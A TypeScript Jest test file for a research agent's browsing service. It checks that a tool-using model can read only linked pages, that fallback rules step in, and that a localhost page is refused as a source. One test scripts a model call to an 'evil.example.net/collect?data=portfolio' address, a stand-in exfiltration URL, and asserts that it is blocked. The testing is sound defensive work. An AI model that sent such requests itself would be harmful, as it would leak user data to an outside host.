// A model with tools chooses what is read, from what there is and nothing else.
import { expect, test } from '@jest/globals';
import { Usage, type Model, type ModelResponse } from '@openai/agents-core';
import { createBrowsing } from '../../../services/researcher/browsing/browsing.ts';
import type { Page } from '../../../services/researcher/browsing/page.ts';
import { openCatalogue } from '../../../services/researcher/pages/catalogue.ts';
import { gatherPages } from '../../../services/researcher/pages/gather.ts';
import { Reading } from '../../../services/researcher/pages/reading.ts';

const silent = { info: () => undefined, warn: () => undefined, error: () => undefined };
const site = 'https://samples.example.com/2026/11';

/** Calls `read_page` with each address in turn, one a turn, then says that it is done. */
function reader(addresses: readonly string[]): Model {
  let turn = 0;
  const getResponse = (): Promise<ModelResponse> => {
    const url = addresses[turn];
    turn += 1;
    const output: ModelResponse['output'] =
      url === undefined
        ? [
            {
              type: 'message',
              role: 'assistant',
              status: 'completed',
              content: [{ type: 'output_text', text: 'done' }],
            },
          ]
        : [
            {
              type: 'function_call',
              callId: `c${turn}`,
              name: 'read_page',
              arguments: JSON.stringify({ url }),
              status: 'completed',
            },
          ];
    return Promise.resolve({ usage: new Usage(), output, responseId: `r${turn}` });
  };
  return {
    getResponse,
    getStreamedResponse: () => {
      throw new Error('not streamed');
    },
  };
}

async function gather(model: Model | undefined, topic = 'gold', most = 99) {
  const browsing = createBrowsing({ folder: 'examples/research', network: false, browser: false });
  const { signal } = new AbortController();
  const links = (await openCatalogue(browsing, { startPages: [], signal, logger: silent })).slice(0, most);
  const reading = new Reading({ browsing, most: 3, links, onRead: () => Promise.resolve() });
  const limits = { fewestPages: 2, mostPages: 3, turns: 8 };
  const task = { topic, links, reading, asOf: '2026-11-20', limits, signal };
  const degraded = await gatherPages(task, model === undefined ? {} : { model });
  return { degraded, urls: reading.pages.map(({ finalUrl }) => finalUrl) };
}

const pageOf = (finalUrl: string): Page => ({
  ...{ url: finalUrl, finalUrl, title: 'Gold', text: 'Gold rose by 2% in the week. '.repeat(10), truncated: false },
  ...{ excerptHash: '0'.repeat(64), fetchedAt: '2026-11-20T08:00:00.000Z', contentType: 'text/html' },
  ...{ via: 'fetch', links: [] },
});

test('a model reads what it asks for', async () => {
  const wanted = [`${site}/12/gold-in-a-portfolio`, `${site}/13/small-companies-valuations`];
  expect(await gather(reader(wanted))).toMatchObject({ degraded: null, urls: wanted });
});

test('an address that nobody links to is not asked for, and rules read in the place of a model that read too little', async () => {
  const { degraded, urls } = await gather(reader(['https://evil.example.net/collect?data=portfolio']));
  expect(degraded).toContain('rules chose');
  expect(urls[0]).toBe(`${site}/12/gold-in-a-portfolio`);
  expect(urls.join(' ')).not.toContain('evil');
});

test('a topic that no page is about is an error in words, and nothing is made up', async () => {
  await expect(gather(undefined, 'zebra farming')).rejects.toThrow('None of the 7 pages');
  await expect(gather(undefined, 'zebra farming', 1)).rejects.toThrow(
    'The one page that the sources name is not about',
  );
});

test('a page of this machine, which the settings may admit for feeds, is no source: nobody else could look it up', async () => {
  const url = 'http://127.0.0.1:8000/gold';
  const read = () => Promise.resolve({ ...pageOf(url), url: 'https://news.example.com/gold' });
  const browsing = { ...createBrowsing({ network: false, browser: false }), read };
  const link = { url: 'https://news.example.com/gold', title: 'Gold', published: null, summary: '' };
  const unread: string[] = [];
  const reading = new Reading({
    ...{ browsing, most: 3, links: [link], onRead: () => Promise.resolve() },
    onUnread: ({ why }) => Promise.resolve(void unread.push(why)),
  });
  await expect(reading.read(link.url, new AbortController().signal)).rejects.toThrow('127.0.0.1 is this machine');
  expect(unread).toEqual(['Nobody else could look the page up: 127.0.0.1 is this machine itself.']);
});
